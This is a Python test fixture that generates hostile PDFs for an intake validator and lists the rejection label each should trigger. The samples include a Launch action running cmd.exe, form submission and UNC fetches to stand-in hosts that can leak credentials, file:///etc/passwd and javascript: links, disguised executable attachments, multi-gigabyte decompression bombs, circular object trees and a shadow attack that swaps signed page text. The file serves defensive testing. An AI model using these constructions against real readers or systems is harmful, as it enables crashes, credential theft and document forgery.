"""PDFs that attack their reader, after the public literature: actions, polyglots, loops, bombs, shadow attacks."""

import io
import zlib
from collections.abc import Callable, Sequence

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.paper.intake import hostile as h

ACTIVE, BROKEN, COMPLEX, SCAN = "pdf-active-content", "broken-pdf", "file-too-complex", "scan-below-standard"
LOOPED = {BROKEN, COMPLEX, "pdf-too-long", SCAN}
Change = Callable[[pikepdf.Pdf], None]


def raw(objects: Sequence[bytes], trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A PDF written by hand: object 1 is the catalog; the table and the trailer are right unless told otherwise."""
    data, places = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(data))
    return bytes(data + head + table + end)


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>"


def stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), head, content)


def squeezed(size: int) -> bytes:
    """So many spaces as zlib packs them: all millions but the first alike, so it need not pack more than two."""
    packer, million, check = zlib.compressobj(9), b" " * 1_000_000, 1
    first, alike = (packer.compress(million) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    for _ in range(size // len(million)):
        check = zlib.adler32(million, check)
    nothing_more = b"\x03\0"
    return first + alike * (size // len(million) - 1) + nothing_more + check.to_bytes(4)


def with_page(**entries: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            document.pages[0][Name(f"/{name}")] = value  # type: ignore[assignment]

    return h.printed(change)


def with_root(**entries: object) -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            document.Root[Name(f"/{name}")] = value  # type: ignore[assignment]

    return h.printed(change)


def with_stream(content: bytes = b"", **head: object) -> bytes:
    """A printed page with one more stream among its XObjects."""

    def change(document: pikepdf.Pdf) -> None:
        thing = document.make_stream(content)
        for name, value in head.items():
            thing.stream_dict[Name(f"/{name}")] = value  # type: ignore[assignment]
        document.pages[0].Resources.XObject = Dictionary(X1=thing)

    return h.printed(change)


def acting(kind: str, **entries: object) -> bytes:
    return h.printed(h.action(S=Name(f"/{kind}"), **entries))


def note_with(**action: object) -> bytes:
    mark = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))  # type: ignore[arg-type]
    return with_page(Annots=Array([mark]))


def hidden_layer() -> bytes:
    """The shadow attack that hides: another text lies in a layer that is off until somebody turns it on."""

    def change(document: pikepdf.Pdf) -> None:
        layer = document.make_indirect(Dictionary(Type=Name.OCG, Name=String("an")))
        off = Dictionary(OFF=Array([layer]), Order=Array([layer]))
        document.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=off)

    return h.printed(change)


def object_stream_bomb() -> bytes:
    packed = squeezed(1_500_000_000)
    bomb = stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    body = raw([CATALOG, PAGES, PAGE, stream(b""), bomb])
    return body[: body.rindex(b"xref\n0")] + _xref_stream(body)


def _xref_stream(body: bytes) -> bytes:
    """A cross-reference stream that sends the contents of the page into the bomb."""
    at = body.rindex(b"xref\n0")
    rows = b"\0\0\0\0\0"
    for number in range(1, 6):
        place = body.index(b"%d 0 obj" % number)
        rows += b"\2" + (5).to_bytes(3, "big") + b"\0" if number == 4 else b"\1" + place.to_bytes(3, "big") + b"\0"
    rows += b"\1" + at.to_bytes(3, "big") + b"\0"
    table = stream(rows, b"/Type/XRef/Size 7/W[1 3 1]/Root 1 0 R")
    return b"6 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def shadow_replaced() -> bytes:
    """The page's text replaced by an update behind the first end, as after a signature."""
    first = h.printed(text="LUONG 5 TRIEU")
    with pikepdf.open(io.BytesIO(first)) as document:
        number = document.pages[0].Contents.objgen[0]
    new = b"%d 0 obj\n" % number + stream(b"BT /F1 14 Tf 80 700 Td (LUONG 500 TRIEU) Tj ET") + b"\nendobj\n"
    at, last = len(first), int(first.rsplit(b"startxref", 1)[1].split()[0])
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, at)
    size = 50
    end = b"trailer\n<</Size %d/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, last, at + len(new))
    return first + new + table + end


def calling_itself() -> bytes:
    def change(document: pikepdf.Pdf) -> None:
        form = document.make_stream(b"/X1 Do /X1 Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        form.Resources = Dictionary(XObject=Dictionary(X1=form))
        document.pages[0].Resources = Dictionary(XObject=Dictionary(X1=form))
        document.pages[0].Contents = document.make_stream(b"/X1 Do")

    return h.pdf(change)


def pages_in_a_circle() -> bytes:
    return raw([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>"])


def table_in_a_circle() -> bytes:
    data = raw([CATALOG, PAGES, PAGE, stream(b"")])
    at = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def names(code: str) -> Dictionary:
    action = Dictionary(S=Name.JavaScript, JS=String(code))
    return Dictionary(JavaScript=Dictionary(Names=Array([String("a"), action])))


PDFS: dict[str, tuple[set[str], Callable[[], bytes]]] = {
    "JavaScript at opening": ({ACTIVE}, lambda: acting("JavaScript", JS=String("app.launchURL('x')"))),
    "JavaScript by name": ({ACTIVE}, lambda: with_root(Names=names("app.alert(1)"))),
    "JavaScript in a stream": ({ACTIVE}, lambda: with_root(OpenAction=Dictionary(S=Name.JavaScript, JS=Array([])))),
    "JavaScript with an escaped name": (
        {ACTIVE},
        lambda: raw([CATALOG[:-2] + b"/OpenAction<</S/J#61vaScript/#4aS(x)>>>>", PAGES, PAGE, stream(b"")]),
    ),
    "action of a page": ({ACTIVE}, lambda: with_page(AA=Dictionary(O=Dictionary(S=Name.Named, N=Name.Print)))),
    "launch": ({ACTIVE}, lambda: acting("Launch", Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
    "second action in a chain": ({ACTIVE}, lambda: acting("GoTo", Next=Dictionary(S=Name.Launch, F=String("x")))),
    "form sent away": ({ACTIVE}, lambda: acting("SubmitForm", F=String("http://example.invalid"))),
    "data fetched": ({ACTIVE}, lambda: acting("ImportData", F=String("\\\\192.0.2.1\\a"))),
    "credentials by another file": ({ACTIVE}, lambda: acting("GoToR", F=String("\\\\192.0.2.1\\a.pdf"), D=Array([0]))),
    "embedded file opened": ({ACTIVE}, lambda: acting("GoToE", T=Dictionary(R=Name.C))),
    "link to a script": ({ACTIVE}, lambda: note_with(S=Name.URI, URI=String("javascript:alert(1)"))),
    "link to a file": ({ACTIVE}, lambda: note_with(S=Name.URI, URI=String("file:///etc/passwd"))),
    "rich media": ({ACTIVE}, lambda: with_page(Annots=Array([Dictionary(Subtype=Name.RichMedia)]))),
    "3D": ({ACTIVE}, lambda: with_page(Annots=Array([Dictionary(Subtype=Name("/3D"))]))),
    "XFA": ({ACTIVE}, lambda: with_root(AcroForm=Dictionary(XFA=Array([]), Fields=Array([])))),
    "program attached": ({ACTIVE}, lambda: h.printed(h.attached("hoa-don.exe"))),
    "program with two endings": ({ACTIVE}, lambda: h.printed(h.attached("hoa-don.pdf.scr"))),
    "program under a paper's name": ({ACTIVE}, lambda: h.printed(h.attached("hoa-don.pdf"))),
    "attachment turned by bidi": ({ACTIVE}, lambda: h.printed(h.attached("hoa\u202efdp.pdf", b"%PDF-1.7"))),
    "macro file attached": ({ACTIVE}, lambda: h.printed(h.attached("a.docm", h.DOCX))),
    "script attached as text": ({ACTIVE}, lambda: h.printed(h.attached("a.txt", b"#!/bin/sh\nid"))),
    "JBIG2": ({ACTIVE}, lambda: with_stream(b"\0", Subtype=Name.Image, Filter=Name.JBIG2Decode, Width=1, Height=1)),
    "PostScript object": ({ACTIVE}, lambda: with_stream(b"showpage", Type=Name.XObject, Subtype=Name.PS)),
    "stream of another file": ({ACTIVE}, lambda: with_stream(F=String("/etc/passwd"))),
    "page of another file": (
        {ACTIVE},
        lambda: with_stream(Subtype=Name.Form, Ref=Dictionary(F=String("a.pdf"), Page=0)),
    ),
    "file by address": (
        {ACTIVE},
        lambda: with_root(AF=Array([Dictionary(FS=Name.URL, F=String("http://example.invalid"))])),
    ),
    "password": ({"pdf-encrypted"}, lambda: h.pdf(encryption=pikepdf.Encryption(owner="a", user="b"))),
    "permission password only": (
        {"pdf-encrypted"},
        lambda: h.printed(encryption=pikepdf.Encryption(owner="a", user="")),
    ),
    "shadow attack, hiding": ({ACTIVE}, hidden_layer),
    "shadow attack, replacing": ({"in"}, shadow_replaced),
    "cipher unknown": (
        {"pdf-encrypted", BROKEN},
        lambda: raw([CATALOG, PAGES, PAGE, stream(b"")], b"/Encrypt<</Filter/Evil/V 9/R 9>>"),
    ),
    "bomb of one stream": (
        {COMPLEX},
        lambda: raw([CATALOG, PAGES, PAGE, stream(squeezed(600_000_000), b"/Filter/FlateDecode")]),
    ),
    "bomb of bombs": (
        {ACTIVE},
        lambda: raw(
            [CATALOG, PAGES, PAGE, stream(zlib.compress(squeezed(500_000_000)), b"/Filter[/FlateDecode/FlateDecode]")]
        ),
    ),
    "chain of filters": (
        {ACTIVE},
        lambda: raw([CATALOG, PAGES, PAGE, stream(b"", b"/Filter[" + b"/ASCIIHexDecode" * 500 + b"]")]),
    ),
    "bomb of run lengths": (
        LOOPED | {ACTIVE},
        lambda: raw([CATALOG, PAGES, PAGE, stream(b"\x81 " * 400_000, b"/Filter/RunLengthDecode")]),
    ),
    "bomb of objects in a stream": ({COMPLEX, BROKEN}, object_stream_bomb),
    "table in a circle": (LOOPED, table_in_a_circle),
    "pages in a circle": (LOOPED, pages_in_a_circle),
    "page that is its own parent": (
        LOOPED,
        lambda: raw([CATALOG, b"<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 1>>"]),
    ),
    "a billion pages told": (
        LOOPED,
        lambda: raw([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", PAGE, stream(b"")]),
    ),
    "six hundred pages": (
        {"pdf-too-long"},
        lambda: raw(
            [
                CATALOG,
                b"<</Type/Pages/Kids[" + b" ".join(b"%d 0 R" % n for n in range(3, 603)) + b"]/Count 600>>",
                *[b"<</Type/Page/Parent 2 0 R>>"] * 600,
            ]
        ),
    ),
    "arrays in each other": (LOOPED, lambda: raw([CATALOG, PAGES, PAGE, b"[" * 200_000 + b"]" * 200_000])),
    "dictionaries in each other": (
        LOOPED,
        lambda: raw([CATALOG, PAGES, PAGE, b"<</A" * 100_000 + b" 1" + b">>" * 100_000]),
    ),
    "object that is itself": (LOOPED, lambda: raw([CATALOG, PAGES, PAGE, b"4 0 R"])),
    "length by itself": (LOOPED, lambda: raw([CATALOG, PAGES, PAGE, b"<</Length 4 0 R>>\nstream\n\nendstream"])),
    "length of two gigabytes": (
        LOOPED,
        lambda: raw([CATALOG, PAGES, PAGE, b"<</Length 2147483647>>\nstream\n\nendstream"]),
    ),
    "table of two billion lines": (
        LOOPED,
        lambda: raw([CATALOG, PAGES, PAGE, stream(b"")]).replace(b"xref\n0 5", b"xref\n0 2147483647"),
    ),
    "hundred and fifty thousand objects": (
        {"pdf-too-long"},
        lambda: raw([CATALOG, PAGES, PAGE, stream(b""), *[b"1"] * 150_000]),
    ),
    "form that calls itself": (LOOPED, calling_itself),
    "image of ten thousand megapixels": (
        {COMPLEX},
        lambda: with_stream(b"", Subtype=Name.Image, Width=100_000, Height=100_000),
    ),
    "image of negative size": ({COMPLEX}, lambda: with_stream(b"", Subtype=Name.Image, Width=-5, Height=7)),
    "matrix of nothing": (
        LOOPED,
        lambda: raw([CATALOG, PAGES, PAGE, stream(b"q 0 0 0 0 0 0 cm BI /W 1 /H 1 /CS /RGB /BPC 8 ID \0\0\0 EI Q")]),
    ),
    "matrices without end": (LOOPED, lambda: raw([CATALOG, PAGES, PAGE, stream(b"q " * 400_000)])),
    "numbers without end": (LOOPED, lambda: raw([CATALOG, PAGES, PAGE, stream(b"9" * 500_000 + b" 0 0 1 0 0 cm")])),
    "zip behind it": ({BROKEN}, lambda: h.printed() + h.DOCX),
    "page of the web before it": ({"not-a-docx"}, lambda: b"<html><script>alert(1)</script>" + h.printed()),
    "update never ended": ({BROKEN}, lambda: h.printed() + b"9 0 obj\n<<"),
    "no table": ({BROKEN}, lambda: h.printed().rsplit(b"startxref", 1)[0]),
    "only a name": ({BROKEN}, lambda: b"%PDF-1.7\n%%EOF\n"),
    "no page": ({"pdf-too-long"}, lambda: raw([CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"])),
    "catalog that is a number": ({BROKEN, "pdf-too-long"}, lambda: raw([b"42", PAGES, PAGE, stream(b"")])),
    "page that is a text": (LOOPED, lambda: raw([CATALOG, PAGES, b"(trang)", stream(b"")])),
    "blank page": ({SCAN}, lambda: h.pdf()),
}
